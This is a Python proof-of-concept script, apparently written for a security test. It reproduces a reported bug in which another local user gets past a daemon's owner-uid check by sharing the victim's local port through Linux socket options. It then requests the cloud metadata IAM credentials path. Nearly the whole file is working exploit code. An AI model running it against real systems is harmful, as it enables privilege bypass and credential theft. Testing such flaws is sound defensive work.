"""The port-sharing attack on the owner check (issue: another user past the owner-uid check).

Run as the attacking user with the standard library only: `python3 -c SOURCE HOST PORT ROUNDS`.
Each round it listens on a port of its own and prints `listening L`; the test connects a
victim socket (local port E) to it; it accepts, then connects to the target (vaultd, or the
169.254.169.254:80 redirect) from the same 127.0.0.1:E, which `IP_LOCAL_PORT_RANGE` (Linux
6.3+) lets any user ask for, sends a GET and prints `round N port E status S`. It prints
`unsupported` and stops when the kernel refuses the option.
"""

import errno
import socket
import struct
import sys

IP_LOCAL_PORT_RANGE = 51
IP_BIND_ADDRESS_NO_PORT = 24


def attack(host: str, port: int, local_port: int) -> str:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    rng = struct.pack("I", local_port | (local_port << 16))
    sock.setsockopt(socket.SOL_IP, IP_LOCAL_PORT_RANGE, rng)
    # The victim's address too, even towards 169.254.169.254; the port is picked at connect.
    sock.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(5)
    try:
        sock.connect((host, port))
    except OSError as exc:
        if exc.errno != errno.EADDRNOTAVAIL:
            raise
        # The port is taken towards this destination too (an earlier round's TIME_WAIT):
        # this round cannot share it, so it does not count, like a missed port.
        sock.close()
        return "missed: the 4-tuple is in use"
    got = sock.getsockname()[1]
    if got != local_port:
        return f"missed {got}"
    request = "GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: {}\r\n\r\n"
    sock.sendall(request.format(host if port == 80 else f"{host}:{port}").encode())
    head = sock.recv(4096).decode("latin-1").split("\r\n", 1)[0]
    sock.close()
    return "status " + (head.split(" ")[1] if head.count(" ") >= 1 else "none")


def main() -> None:
    host, port, rounds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    probe = socket.socket()
    try:
        probe.setsockopt(socket.SOL_IP, IP_LOCAL_PORT_RANGE, struct.pack("I", 0))
    except OSError:
        print("unsupported", flush=True)
        return
    finally:
        probe.close()
    for n in range(rounds):
        with socket.create_server(("127.0.0.1", 0)) as listener:
            print("listening", listener.getsockname()[1], flush=True)
            conn, (_, victim_port) = listener.accept()
            with conn:
                print("round", n, "port", victim_port, attack(host, port, victim_port), flush=True)
                conn.recv(1)  # hold the victim's connection until the test closes it


main()
